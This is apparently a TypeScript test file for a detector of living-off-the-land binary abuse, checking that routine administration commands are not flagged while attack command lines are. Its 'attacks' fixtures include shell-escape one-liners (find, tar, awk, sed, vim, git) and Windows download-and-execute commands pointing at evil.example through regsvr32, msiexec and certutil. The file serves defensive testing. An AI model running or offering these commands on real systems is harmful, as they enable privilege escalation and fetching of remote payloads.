// Behaviour of the catalogue on hand-written command lines: ordinary administration must not look
// like proxy use, attacks must; interpreters, loaders, locations and masquerade data as intended.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Platform } from '@execguard/schema';
import { defaultCatalogue as cat } from './index.js';
import { contentKind, findInterpreter, isLoader, matchProxy, programName, tokenize } from './testing.js';

const proxyHits = (platform: Platform, line: string) => {
  const [prog, ...args] = tokenize(line, platform);
  const name = programName(prog as string, platform);
  const hits = matchProxy(cat, platform, name, args);
  assert.ok(hits !== undefined, `${name} should be a catalogued proxy`);
  return hits;
};

const benign: [Platform, string][] = [
  ['linux', "find /var/log -name '*.gz' -mtime +30"],
  ['linux', 'find / -xdev -perm -4000 -type f -print'],
  ['linux', 'tar czf backup.tgz /etc/opcua'],
  ['linux', 'tar -xzf historian-2.4.tar.gz -C /opt'],
  ['linux', 'env'],
  ['linux', 'env LANG=C ls -l'],
  ['linux', 'nice -n 10 make -j2'],
  ['linux', 'timeout 30 ping -c 1 plc01'],
  ['linux', 'xargs -0 rm -f'],
  ['linux', "awk -F: '{print $1}' /etc/passwd"],
  ['linux', "awk '/error/ {n++} END {print n}' /var/log/syslog"],
  ['linux', "sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config"],
  ['linux', "sed -n '1,10p' /var/log/messages"],
  ['linux', 'sed -e s/foo/bar/g file'],
  ['linux', 'zip -r logs.zip /var/log/scada'],
  ['linux', 'vim /etc/hosts'],
  ['linux', 'vim -c "set number" /etc/hosts'],
  ['linux', 'less +F /var/log/syslog'],
  ['linux', 'man tar'],
  ['linux', 'git -C /opt/config pull --ff-only'],
  ['linux', 'git -c user.name=ops commit -m update'],
  ['linux', 'ssh -i /root/.ssh/id_ed25519 ops@historian uptime'],
  ['linux', 'scp backup.tgz ops@historian:/srv/backup/'],
  ['linux', 'rsync -e ssh -a /opt/hmi/ ops@standby:/opt/hmi/'],
  ['linux', 'socat TCP-LISTEN:502,fork,reuseaddr TCP:10.0.0.5:502'],
  ['linux', 'nc -z -w 3 plc01 502'],
  ['linux', 'gdb -p 1234 -batch -ex bt'],
  ['linux', 'make -C /opt/driver'],
  ['linux', 'run-parts --report /etc/cron.daily'],
  ['linux', 'dpkg -l'],
  ['linux', 'apt-get install -y nginx'],
  ['linux', 'openssl x509 -in cert.pem -noout -text'],
  ['linux', 'curl -fsS https://historian/api/health'],
  ['linux', 'wget -q https://repo.example/pkg.deb'],
  ['linux', 'systemctl restart opcua-gateway.service'],
  ['linux', 'systemctl enable --now /etc/systemd/system/opcua.service'],
  ['linux', 'crontab -l'],
  ['linux', 'docker run --rm -p 8080:80 nginx'],
  ['linux', 'busybox ls /tmp'],
  ['linux', 'sudo -u postgres pg_dump scada'],
  ['linux', 'flock /run/lock/backup.lock /usr/local/bin/backup'],
  ['linux', 'chroot /srv/jail /usr/bin/app'],
  ['linux', 'screen /dev/ttyUSB0 115200'],
  ['windows', 'rundll32.exe printui.dll,PrintUIEntry /il'],
  ['windows', 'rundll32.exe user32.dll,LockWorkStation'],
  ['windows', 'regsvr32.exe /s "C:\\Program Files\\Vendor\\HMI\\trend.ocx"'],
  ['windows', 'msiexec.exe /x {11111111-2222-3333-4444-555555555555} /qn'],
  ['windows', 'explorer.exe C:\\Users\\operator\\Documents'],
  ['windows', 'control.exe printers'],
  ['windows', 'mmc.exe C:\\Windows\\System32\\compmgmt.msc'],
  ['windows', 'hh.exe C:\\Windows\\Help\\mmc.chm'],
  ['windows', 'schtasks.exe /query /fo LIST'],
  ['windows', 'certutil.exe -hashfile C:\\install\\setup.exe SHA256'],
  ['windows', 'bitsadmin.exe /list /allusers'],
  ['windows', 'conhost.exe 0xffffffff -ForceV1'],
  ['windows', 'forfiles /p C:\\logs /m *.log /d -30'],
  ['windows', 'ssh.exe ops@historian'],
  ['windows', 'msedge.exe https://intranet/'],
  ['windows', 'wscript.exe C:\\Scripts\\logon.vbs'],
  ['windows', 'cscript.exe //nologo C:\\Windows\\System32\\slui.vbs'],
  ['windows', 'netsh.exe interface ip show config'],
  ['windows', 'odbcconf.exe /q'],
  ['windows', 'pnputil.exe /enum-drivers'],
  ['windows', 'dotnet.exe --info'],
  ['windows', 'msbuild.exe -version'],
];

test('benign administration is not proxy use', () => {
  const wrong = benign.map(([p, l]) => [l, proxyHits(p, l)] as const).filter(([, h]) => h.length > 0);
  assert.deepEqual(wrong, []);
});

const attacks: [Platform, string, string][] = [
  ['linux', 'find . -exec /bin/sh ; -quit', 'find-exec'],
  ['linux', 'tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh', 'tar-command-option'],
  ['linux', 'env /bin/bash -p', 'wrapper-shell'],
  ['linux', 'awk \'BEGIN {system("/bin/sh")}\'', 'awk-command'],
  ['linux', "sed -n '1e id' /etc/hosts", 'sed-e-command'],
  ['linux', "sed 's/.*/id/e' x", 'sed-s-exec-flag'],
  ['linux', 'busybox sh -c id', 'busybox-shell'],
  ['linux', 'socat - exec:/bin/sh,pty', 'socat-exec'],
  ['linux', 'xargs -a /dev/null sh', 'wrapper-shell'],
  ['linux', 'ssh -o ProxyCommand=;sh x', 'ssh-local-command'],
  ['linux', "vim -c ':py3 import os'", 'vim-language-command'],
  ['linux', 'git -c core.pager=/tmp/x log', 'git-command-config'],
  ['windows', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'rundll32-script-url'],
  ['windows', 'rundll32.exe C:\\Users\\Public\\x.dll,Start', 'rundll32-foreign-dll'],
  ['windows', 'rundll32.exe shell32.dll,ShellExec_RunDLL calc.exe', 'rundll32-proxy-export'],
  ['windows', 'regsvr32.exe /s /n /u /i:https://evil.example/x.sct scrobj.dll', 'regsvr32-scriptlet'],
  ['windows', 'mshta.exe vbscript:Close(Execute("x"))', 'mshta-script-url'],
  ['windows', 'wmic.exe process call create calc.exe', 'wmic-process-create'],
  ['windows', 'cscript.exe //E:jscript C:\\Users\\Public\\x.txt', 'wsh-engine-override'],
  ['windows', 'msiexec.exe /q /i https://evil.example/x.msi', 'msiexec-remote'],
  ['windows', 'certutil.exe -urlcache -split -f https://evil.example/x.exe x.exe', 'certutil-fetch'],
];

test('known proxy abuse is recognised by the intended pattern', () => {
  for (const [p, line, id] of attacks) assert.ok(proxyHits(p, line).includes(id), `${line} → ${id}`);
});

const interp: [Platform, string, string][] = [
  ['linux', 'bash -c id', 'inline'],
  ['linux', 'bash -xc id', 'inline'],
  ['linux', 'bash -o posix /opt/x.sh', 'script'],
  ['linux', 'bash -s', 'stdin'],
  ['linux', 'bash', 'none'],
  ['linux', 'dash /usr/lib/x.sh', 'script'],
  ['linux', 'python3.11 -c print(1)', 'inline'],
  ['linux', 'python3 -W ignore /opt/app/main.py', 'script'],
  ['linux', 'python3 -m http.server', 'inline'],
  ['linux', 'python3 -Ic print(1)', 'inline'],
  ['linux', 'python3 -', 'stdin'],
  ['linux', 'perl -ne print', 'inline'],
  ['linux', 'perl -I lib script.pl', 'script'],
  ['linux', 'node -pe 1+1', 'inline'],
  ['linux', 'node --require ./hook.js app.js', 'inline'],
  ['linux', 'node server.js', 'script'],
  ['linux', 'php -r phpinfo();', 'inline'],
  ['linux', 'php -f index.php', 'script'],
  ['linux', 'lua -e print(1)', 'inline'],
  ['linux', 'java -jar /opt/historian/historian.jar', 'script'],
  ['linux', 'java -cp /opt/lib com.example.Main', 'script'],
  ['windows', 'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand AAAA', 'inline'],
  ['windows', 'powershell.exe -nop -w hidden -enc AAAA', 'inline'],
  ['windows', 'powershell.exe -ec AAAA', 'inline'],
  ['windows', 'powershell.exe -e AAAA', 'inline'],
  ['windows', 'pwsh.exe -c Get-Date', 'inline'],
  ['windows', 'powershell.exe -comm Get-Date', 'inline'],
  ['windows', 'powershell.exe -ep bypass -File C:\\Scripts\\x.ps1', 'script'],
  ['windows', 'PowerShell.exe -NOPROFILE -FILE C:\\Scripts\\x.ps1', 'script'],
  ['windows', 'cmd.exe /c whoami', 'inline'],
  ['windows', 'cmd.exe /q /k echo', 'inline'],
  ['windows', 'cmd.exe /ccalc', 'inline'],
  ['windows', 'cmd.exe', 'none'],
  ['windows', 'cscript.exe //nologo //E:vbscript C:\\Scripts\\x.txt', 'script'],
  ['windows', 'wscript.exe C:\\Scripts\\logon.vbs', 'script'],
  ['windows', 'python.exe C:\\tools\\x.py', 'script'],
];

test('interpreters: the arguments are read as the engine reads them', () => {
  for (const [p, line, want] of interp) {
    const [prog, ...args] = tokenize(line, p);
    const name = ((prog as string).split(/[\\/]/).pop() as string).toLowerCase();
    const spec = findInterpreter(cat, p, name);
    assert.ok(spec, `${name} is an interpreter on ${p}`);
    assert.equal(contentKind(spec, args, p), want, line);
  }
  for (const n of ['python3.12', 'pythonw.exe', 'php8.2', 'lua5.4', 'tclsh8.6'])
    assert.ok(findInterpreter(cat, 'linux', n) ?? findInterpreter(cat, 'windows', n), n);
  for (const n of ['pythonista', 'find', 'ls', 'awk', 'busybox', 'mshta.exe'])
    assert.equal(findInterpreter(cat, 'linux', n) ?? findInterpreter(cat, 'windows', n), undefined, n);
  assert.equal(findInterpreter(cat, 'linux', 'cmd.exe'), undefined, 'cmd is Windows only');
});

test('loader patterns match loaders only', () => {
  for (const n of [
    'ld-linux-x86-64.so.2',
    'ld-linux.so.2',
    'ld-linux-aarch64.so.1',
    'ld-linux-armhf.so.3',
    'ld-2.31.so',
    'ld.so',
    'ld64.so.2',
    'ld-musl-x86_64.so.1',
  ])
    assert.ok(isLoader(cat, n), n);
  for (const n of ['ld', 'ldd', 'ldconfig', 'libc.so.6', 'ld-linux', 'gold', 'ld.bfd', 'libld.so'])
    assert.ok(!isLoader(cat, n), n);
});

const writable = (platform: Platform, path: string) =>
  cat.userWritableLocations.filter((l) => l.platform === platform && new RegExp(l.pattern, 'i').test(path)).map((l) => l.kind);

test('user-writable locations', () => {
  const yes: [Platform, string, string][] = [
    ['linux', '/tmp/x', 'temp'],
    ['linux', '/var/tmp/x', 'temp'],
    ['linux', '/dev/shm/x', 'shared-memory'],
    ['linux', '/run/user/1000/x', 'temp'],
    ['linux', '/home/op/Downloads/tool', 'download'],
    ['linux', '/home/op/bin/tool', 'user-profile'],
    ['linux', '/media/usb0/setup', 'removable'],
    ['linux', '/mnt/stick/x', 'removable'],
    ['windows', 'C:/Users/op/Downloads/setup.exe', 'download'],
    ['windows', 'c:/users/op/appdata/local/temp/x.exe', 'temp'],
    ['windows', 'c:/users/op/appdata/roaming/x/y.exe', 'user-profile'],
    ['windows', 'c:/users/op/desktop/x.exe', 'user-profile'],
    ['windows', 'c:/users/public/x.exe', 'user-profile'],
    ['windows', 'c:/windows/temp/x.exe', 'temp'],
    ['windows', 'c:/windows/tasks/x.exe', 'temp'],
    ['windows', 'c:/windows/system32/spool/drivers/color/x.exe', 'temp'],
    ['windows', 'c:/programdata/x/y.exe', 'temp'],
    ['windows', 'd:/users/op/downloads/x.exe', 'download'],
  ];
  for (const [p, path, kind] of yes) assert.equal(writable(p, path)[0], kind, path);
  const no: [Platform, string][] = [
    ['linux', '/usr/bin/python3'],
    ['linux', '/opt/hmi/bin/hmi'],
    ['linux', '/usr/lib/systemd/systemd'],
    ['linux', '/tmpfoo/x'],
    ['linux', '/var/lib/tmp/x'],
    ['windows', 'c:/windows/system32/cmd.exe'],
    ['windows', 'c:/program files/vendor/hmi.exe'],
    ['windows', 'c:/users/default/ntuser.dat'],
    ['windows', 'c:/programdata/microsoft/windows defender/platform/4.18/msmpeng.exe'],
  ];
  for (const [p, path] of no) assert.deepEqual(writable(p, path), [], path);
});
